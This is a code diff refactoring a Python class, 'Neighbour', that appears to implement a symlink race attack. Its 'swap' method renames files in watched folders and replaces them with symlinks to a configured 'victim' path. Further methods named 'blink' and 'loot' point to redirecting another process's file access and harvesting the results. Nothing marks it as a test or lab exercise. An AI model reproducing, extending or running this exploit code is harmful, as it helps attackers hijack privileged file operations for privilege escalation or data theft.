@@ -33,21 +33,16 @@ class Neighbour(object):
             self.active = False
 
     def swap(self):
-        for folder in self.args["folders"]:
-            try:
-                names = own["listdir"](folder)
-            except OSError:
+        for folder, name in self.entries():
+            path = os.path.join(folder, name)
+            if name.startswith("aside") or os.path.islink(path) or not self.is_meant(name):
                 continue
-            for name in names:
-                path = os.path.join(folder, name)
-                if name.startswith("aside") or os.path.islink(path) or not self.is_meant(name):
-                    continue
-                self.count += 1
-                try:
-                    own["rename"](path, os.path.join(folder, "aside%d" % self.count))
-                    own["symlink"](self.args["victim"], path)
-                except OSError:
-                    pass
+            self.count += 1
+            try:
+                own["rename"](path, os.path.join(folder, "aside%d" % self.count))
+                own["symlink"](self.args["victim"], path)
+            except OSError:
+                pass
 
     def blink(self):
         path = os.path.join(self.args["folders"][0], self.args["names"][0])
@@ -62,20 +57,24 @@ class Neighbour(object):
         except OSError:
             pass
 
-    def is_meant(self, name):
-        return any(name.startswith(word) for word in self.args["names"])
-
-    def open(self):
+    def entries(self):
         for folder in self.args["folders"]:
             try:
                 names = own["listdir"](folder)
             except OSError:
                 continue
             for name in names:
-                try:
-                    self.handles.append(own["open"](os.path.join(folder, name), os.O_RDONLY | os.O_NOFOLLOW))
-                except OSError:
-                    pass
+                yield folder, name
+
+    def is_meant(self, name):
+        return any(name.startswith(word) for word in self.args["names"])
+
+    def open(self):
+        for folder, name in self.entries():
+            try:
+                self.handles.append(own["open"](os.path.join(folder, name), os.O_RDONLY | os.O_NOFOLLOW))
+            except OSError:
+                pass
 
     def loot(self):
         found = []
